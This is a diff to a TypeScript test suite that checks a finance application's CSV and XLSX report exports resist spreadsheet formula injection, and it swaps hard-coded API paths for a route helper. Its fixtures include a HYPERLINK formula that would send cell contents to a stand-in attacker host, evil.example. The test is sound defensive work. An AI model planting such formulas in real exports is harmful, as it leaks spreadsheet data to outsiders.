@@ -3,6 +3,7 @@ import ExcelJS from 'exceljs'
 import db from '@adonisjs/lucid/services/db'
 import { expectStatus, getAs, postAs } from '#tests/support/api'
 import { makeUser, unique } from '#tests/support/fixtures'
+import { route } from '#tests/support/route'
 
 const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 const PROJECT = '@SUM(1+1)'
@@ -23,19 +24,19 @@ test.group('Hardening: no export writes a formula', () => {
     const { token: sales } = await makeUser('finance')
     const code = unique('INJ')
     const customer = await expectStatus(
-      postAs(client, sales, '/api/v1/customers', { code, name: NAME, defaultCurrency: 'CNY' }),
+      postAs(client, sales, route('customers.store'), { code, name: NAME, defaultCurrency: 'CNY' }),
       201
     )
     const customerId = customer.body().id
     const project = await expectStatus(
-      postAs(client, sales, `/api/v1/customers/${customerId}/projects`, {
+      postAs(client, sales, route('customers.projects.store', { id: customerId }), {
         code: unique('P'),
         name: PROJECT,
       }),
       201
     )
     await expectStatus(
-      postAs(client, sales, '/api/v1/receipts', {
+      postAs(client, sales, route('receipts.store'), {
         customerId,
         projectId: project.body().id,
         amount: '100.50',
@@ -49,7 +50,7 @@ test.group('Hardening: no export writes a formula', () => {
     const range = 'from=2026-03-01&to=2026-03-31'
 
     const csv = await expectStatus(
-      getAs(client, auditor, `/api/v1/reports/balances?groupBy=customer&${range}&format=csv`),
+      getAs(client, auditor, `${route('reports.balances')}?groupBy=customer&${range}&format=csv`),
       200
     )
     const line = csv
@@ -59,14 +60,14 @@ test.group('Hardening: no export writes a formula', () => {
     assert.deepEqual(cells(line).slice(0, 5), [code, `'${NAME}`, 'CNY', '0.00', '100.50'])
 
     const byProject = await expectStatus(
-      getAs(client, auditor, `/api/v1/reports/balances?groupBy=project&${range}&format=csv`),
+      getAs(client, auditor, `${route('reports.balances')}?groupBy=project&${range}&format=csv`),
       200
     )
     assert.include(byProject.text(), `,'${PROJECT},`)
     assert.notInclude(byProject.text(), `,${PROJECT},`)
 
     const xlsx = await expectStatus(
-      getAs(client, auditor, `/api/v1/reports/balances?groupBy=customer&${range}&format=xlsx`),
+      getAs(client, auditor, `${route('reports.balances')}?groupBy=customer&${range}&format=xlsx`),
       200
     )
     const workbook = new ExcelJS.Workbook()
@@ -78,7 +79,7 @@ test.group('Hardening: no export writes a formula', () => {
     assert.deepEqual(labels, [`'${NAME}`, 100.5])
 
     const audit = await expectStatus(
-      getAs(client, auditor, `/api/v1/audit-logs/export?entityType=journal&limit=50`),
+      getAs(client, auditor, `${route('audit_logs.export')}?entityType=journal&limit=50`),
       200
     )
     const stored = await db.from('audit_logs').where('user_agent', AGENT).count('* as n').first()
